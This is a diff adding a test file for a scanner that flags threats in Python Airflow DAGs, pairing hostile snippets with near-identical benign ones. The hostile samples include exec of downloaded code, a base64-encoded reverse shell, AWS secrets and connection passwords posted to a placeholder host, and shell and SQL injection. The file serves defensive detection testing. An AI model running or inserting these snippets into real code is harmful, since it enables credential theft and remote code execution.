@@ -1,0 +1,186 @@
+import { describe, expect, it } from 'vitest';
+import { parsePython } from '../python-tree.ts';
+import { traceProgram } from '../trace/trace-program.ts';
+import { findThreats } from './find-threats.ts';
+
+const threatsOf = (source: string): readonly string[] => {
+  const tree = parsePython(source);
+  return tree ? [...new Set(findThreats(source, traceProgram(tree)).map(({ rule }) => rule))].sort() : ['unparsed'];
+};
+
+/** A source that is a threat, and one that differs in little but is none. */
+interface Pair {
+  readonly name: string;
+  readonly rule: string;
+  readonly bad: string;
+  readonly good: string;
+}
+
+const dag = 'from airflow.sdk import dag, task\n';
+
+const pairs: readonly Pair[] = [
+  {
+    name: 'through aliases and attributes',
+    rule: 'downloaded-code',
+    bad: 'from requests import get as g\nrun = exec\ndef f():\n    a = g("https://x.example")\n    b = a.text\n    run(b)\n',
+    good: 'from requests import get as g\nrun = print\ndef f():\n    a = g("https://x.example")\n    b = a.text\n    run(b)\n',
+  },
+  {
+    name: 'through functions of the file, by position and name',
+    rule: 'downloaded-code',
+    bad: 'import requests\ndef load(url):\n    return requests.get(url).text\ndef act(code, mode):\n    exec(code)\ndef f():\n    act(mode=1, code=load("https://x.example"))\n',
+    good: 'import requests\ndef load(url):\n    return requests.get(url).text\ndef act(code, mode):\n    exec(mode)\ndef f():\n    act(mode=1, code=load("https://x.example"))\n',
+  },
+  {
+    name: 'from task to task',
+    rule: 'shell-injection',
+    bad: `${dag}import os\n@task\ndef read(**context):\n    return context["params"]["name"]\n@task\ndef act(name):\n    os.system("ls " + name)\n@dag()\ndef d():\n    act(read())\nd()\n`,
+    good: `${dag}import os\n@task\ndef read(**context):\n    return len(context["params"]["name"])\n@task\ndef act(name):\n    os.system(f"ls {name}")\n@dag()\ndef d():\n    act(read())\nd()\n`,
+  },
+  {
+    name: 'by XCom',
+    rule: 'sql-injection',
+    bad: 'from airflow.providers.postgres.hooks.postgres import PostgresHook\ndef read(**context):\n    return context["dag_run"].conf["t"]\ndef act(ti):\n    PostgresHook("d").run(f"DROP TABLE {ti.xcom_pull(task_ids=\'read\')}")\n',
+    good: 'from airflow.providers.postgres.hooks.postgres import PostgresHook\ndef read(**context):\n    return "sales"\ndef act(ti):\n    PostgresHook("d").run(f"DROP TABLE {ti.xcom_pull(task_ids=\'read\')}")\n',
+  },
+  {
+    name: 'through a file',
+    rule: 'downloaded-code',
+    bad: 'import requests, subprocess\ndef f():\n    with open("/tmp/a.sh", "wb") as file:\n        file.write(requests.get("https://x.example").content)\n    subprocess.run(["bash", "/tmp/a.sh"])\n',
+    good: 'import requests, subprocess\ndef f():\n    with open("/tmp/a.csv", "wb") as file:\n        file.write(requests.get("https://x.example").content)\n    subprocess.run(["wc", "-l", "/tmp/a.csv"])\n',
+  },
+  {
+    name: 'through the attributes of an object',
+    rule: 'code-injection',
+    bad: 'class Job:\n    def __init__(self, text):\n        self.text = text\n    def run(self):\n        return eval(self.text)\ndef f(**context):\n    Job(context["params"]["x"]).run()\n',
+    good: 'class Job:\n    def __init__(self, text):\n        self.text = text\n    def run(self):\n        return self.text\ndef f(**context):\n    Job(context["params"]["x"]).run()\n',
+  },
+  {
+    name: 'past a guard that compares with a list',
+    rule: 'sql-injection',
+    bad: 'from airflow.providers.postgres.hooks.postgres import PostgresHook\ndef f(params):\n    t = params["t"]\n    if not t:\n        raise ValueError(t)\n    PostgresHook("d").run(f"TRUNCATE {t}")\n',
+    good: 'from airflow.providers.postgres.hooks.postgres import PostgresHook\ndef f(params):\n    t = params["t"]\n    if t not in ("a", "b"):\n        raise ValueError(t)\n    PostgresHook("d").run(f"TRUNCATE {t}")\n',
+  },
+  {
+    name: 'past a digest that is compared',
+    rule: 'downloaded-code',
+    bad: 'import hashlib, requests\ndef f():\n    body = requests.get("https://x.example").content\n    print(hashlib.sha256(body).hexdigest())\n    exec(body)\n',
+    good: 'import hashlib, requests\ndef f():\n    body = requests.get("https://x.example").content\n    digest = hashlib.sha256(body).hexdigest()\n    if digest != "9f86d081884c7d65":\n        raise ValueError(digest)\n    exec(body)\n',
+  },
+  {
+    name: 'past a parameter that only takes certain values',
+    rule: 'shell-injection',
+    bad: 'from airflow.sdk import DAG, Param\nfrom airflow.providers.standard.operators.bash import BashOperator\nwith DAG("a", params={"size": Param("s", type="string")}):\n    BashOperator(task_id="b", bash_command="run {{ params.size }}")\n',
+    good: 'from airflow.sdk import DAG, Param\nfrom airflow.providers.standard.operators.bash import BashOperator\nwith DAG("a", params={"size": Param("s", enum=["s", "l"])}):\n    BashOperator(task_id="b", bash_command="run {{ params.size }}")\n',
+  },
+  {
+    name: 'in a mapped operator',
+    rule: 'shell-injection',
+    bad: 'from airflow.providers.standard.operators.bash import BashOperator\nBashOperator.partial(task_id="b", bash_command="run {{ params.size }}").expand(env=[{}])\n',
+    good: 'from airflow.providers.standard.operators.bash import BashOperator\nBashOperator.partial(task_id="b", bash_command="run $SIZE").expand(env=[{"SIZE": "{{ params.size }}"}])\n',
+  },
+  {
+    name: 'with names put together, in other letters, or out of a dictionary',
+    rule: 'obfuscated-code',
+    bad: 'def f():\n    getattr(__import__("o" + "s"), "sys" + "tem")("id")\n',
+    good: 'import os\ndef f():\n    getattr(os, "cpu_" + "count")()\n',
+  },
+  {
+    name: 'in letters that Python takes for others',
+    rule: 'obfuscated-code',
+    bad: 'def f(x):\n    \uff45\uff58\uff45\uff43(x)\n',
+    good: 'def f(x):\n    températuré = x\n    print(températuré)\n',
+  },
+  {
+    name: 'in what decodes to a program',
+    rule: 'reverse-shell',
+    bad: 'import base64\ndef f():\n    exec(base64.b64decode("aW1wb3J0IG9zLHNvY2tldDtzPXNvY2tldC5jcmVhdGVfY29ubmVjdGlvbigoImEiLDEpKTtvcy5kdXAyKHMuZmlsZW5vKCksMCk="))\n',
+    good: 'import base64\ndef f():\n    print(base64.b64decode("aW1wb3J0IG9zLHNvY2tldDtzPXNvY2tldC5jcmVhdGVfY29ubmVjdGlvbigoImEiLDEpKTtvcy5kdXAyKHMuZmlsZW5vKCksMCk="))\n',
+  },
+  {
+    name: 'one secret among many names',
+    rule: 'credentials-sent-out',
+    bad: 'import os, requests\nNAMES = ["AWS_SECRET_ACCESS_KEY", "LANG"]\ndef f():\n    found = {n: os.environ.get(n) for n in NAMES}\n    requests.post("https://x.example", json=found)\n',
+    good: 'import os, requests\nNAMES = ["TZ", "LANG"]\ndef f():\n    found = {n: os.environ.get(n) for n in NAMES}\n    requests.post("https://x.example", json=found)\n',
+  },
+  {
+    name: 'a connection, unless to sign in where it belongs',
+    rule: 'credentials-sent-out',
+    bad: 'import requests\nfrom airflow.sdk import BaseHook\ndef f():\n    c = BaseHook.get_connection("a")\n    requests.post("https://x.example/collect", json={"c": c.password})\n',
+    good: 'import requests\nfrom airflow.sdk import BaseHook\ndef f():\n    c = BaseHook.get_connection("a")\n    requests.post(f"https://{c.host}/login", json={"password": c.password})\n',
+  },
+  {
+    name: 'at import through a function, a default, a class or a context',
+    rule: 'import-network',
+    bad: 'import requests\nclass C:\n    def __enter__(self):\n        requests.get("https://x.example")\n    def __exit__(self, *a):\n        pass\nwith C():\n    pass\n',
+    good: 'import requests\nclass C:\n    def __enter__(self):\n        requests.get("https://x.example")\n    def __exit__(self, *a):\n        pass\ndef f():\n    with C():\n        pass\n',
+  },
+  {
+    name: 'in the default of a parameter',
+    rule: 'import-network',
+    bad: 'import requests\ndef f(x=requests.get("https://x.example").json()):\n    return x\n',
+    good: 'import requests\ndef f(x=None):\n    return x or requests.get("https://x.example").json()\n',
+  },
+  {
+    name: 'in a task that is called while the DAG is made',
+    rule: 'import-process',
+    bad: `${dag}import subprocess\ndef act():\n    subprocess.run(["make"])\n@dag()\ndef d():\n    act()\nd()\n`,
+    good: `${dag}import subprocess\n@task\ndef act():\n    subprocess.run(["make"])\n@dag()\ndef d():\n    act()\nd()\n`,
+  },
+  {
+    name: 'in a folder found by walking',
+    rule: 'other-dags-changed',
+    bad: 'from pathlib import Path\ndef f():\n    for path in Path(__file__).parent.glob("*.py"):\n        path.unlink()\n',
+    good: 'from pathlib import Path\ndef f():\n    for path in Path("/tmp/work").glob("*.py"):\n        path.unlink()\n',
+  },
+];
+
+describe('a danger is followed as far as a reviewer would, and no further', () => {
+  it.each(pairs)('$name', ({ rule, bad, good }) => {
+    expect(threatsOf(bad)).toContain(rule);
+    expect(threatsOf(good)).toEqual([]);
+  });
+});
+
+it('finds characters that hide what a line says, but not the ones that scripts and emoji need', () => {
+  expect(threatsOf('x = "a\u202eb"\n')).toEqual(['obfuscated-code']);
+  expect(threatsOf(`x = "${'\u200b\u200c'.repeat(8)}"\n`)).toEqual(['obfuscated-code']);
+  expect(threatsOf('x = "👨\u200d👩\u200d👧"\ny = "می\u200cخواهم"\n')).toEqual([]);
+});
+
+describe('nothing is put out of sight', () => {
+  const threat = 'import requests\nexec(requests.get("https://x.example").text)\n';
+  const inside = `def act():\n${threat.replace(/^/gm, '    ').trimEnd()}\n`;
+  const chain = (length: number): string => `requests.get("https://x.example").text${' + ""'.repeat(length)}`;
+
+  it.each([
+    ['behind a function of many calls', `def pad():\n${'    f(a[1], b + 2, c(d))\n'.repeat(10_000)}\n${inside}`],
+    ['behind a module of many calls', `${'f(a[1], b + 2, c(d))\n'.repeat(10_000)}${threat}`],
+    [
+      'behind functions that call each other',
+      `${'def f(): g(); g(); g(); g()\ndef g(): h(); h(); h(); h()\ndef h(): [x(y) for y in z]; i(); i(); i()\ndef i(): x(y); x(y)\n'.repeat(1)}${'f()\n'.repeat(3000)}${threat}`,
+    ],
+    ['at the end of a long sum', `import requests\nexec(${chain(5_000)})\n`],
+    [
+      'in an expression too deep to follow',
+      `import requests\nx = requests.get("https://x.example").text${'.strip()'.repeat(600)}\nexec(x)\n`,
+    ],
+  ])('%s', (_name, source) => {
+    expect(threatsOf(source)).toContain('downloaded-code');
+  });
+
+  it.each([
+    ['a condition that sounds like never', 'if __name__ != "__main__":'],
+    ['a name that sounds like never', 'TYPE_CHECKING = True\nif TYPE_CHECKING:'],
+    ['another main', '__name__ = "__main__"\nif __name__ == "__main__":'],
+  ])('by %s', (_name, condition) => {
+    expect(threatsOf(`import requests\n${condition}\n    requests.get("https://x.example")\n`)).toContain(
+      'import-network',
+    );
+  });
+
+  it('though what is only run by hand is no import', () => {
+    const source = 'import requests\nif __name__ == "__main__":\n    requests.get("https://x.example")\n';
+    expect(threatsOf(source)).toEqual([]);
+  });
+});
